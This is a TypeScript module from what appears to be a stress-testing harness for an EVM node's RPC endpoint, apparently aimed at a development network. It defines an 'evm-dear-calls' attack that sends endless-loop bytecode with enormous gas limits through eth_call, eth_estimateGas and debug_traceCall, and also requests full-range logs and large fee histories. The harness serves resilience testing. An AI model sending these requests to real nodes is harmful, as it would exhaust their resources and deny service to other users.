import type { Attack } from "../attack.ts";
import { callOf } from "../questions.ts";

/** JUMPDEST PUSH1 0 JUMP: an endless loop that uses all gas */
const ENDLESS = "0x5b600056";
const GAS = ["0xffffffffffffff", "0x2faf080", "0x7fffffffffffffff"];

export const evmDearCalls: Attack = {
  name: "evm-dear-calls",
  does: "has the EVM run endless loops with as much gas as a number holds, by eth_call, eth_estimateGas and debug_traceCall, and asks for all logs and fees",
  targets: ["devnet"],
  async run(attacker) {
    const loop = (gas: string) => ({ from: "0x0000000000000000000000000000000000000001", gas, data: ENDLESS });
    const bodies = [
      ...GAS.flatMap((gas) => [
        callOf("eth_call", [loop(gas), "latest"]),
        callOf("eth_estimateGas", [loop(gas), "latest"]),
        callOf("debug_traceCall", [loop(gas), "latest", {}]),
        callOf("debug_traceCall", [loop(gas), "latest", { tracer: "callTracer" }]),
      ]),
      callOf("eth_getLogs", [{ fromBlock: "0x0", toBlock: "latest" }]),
      callOf("eth_feeHistory", ["0x400", "latest", Array.from({ length: 100 }, (_, percent) => percent)]),
      callOf("eth_createAccessList", [loop(GAS[0]!), "latest"]),
    ];
    await attacker.again(8, (turn) => attacker.post("/ext/bc/C/rpc", bodies[turn % bodies.length]!));
  },
};
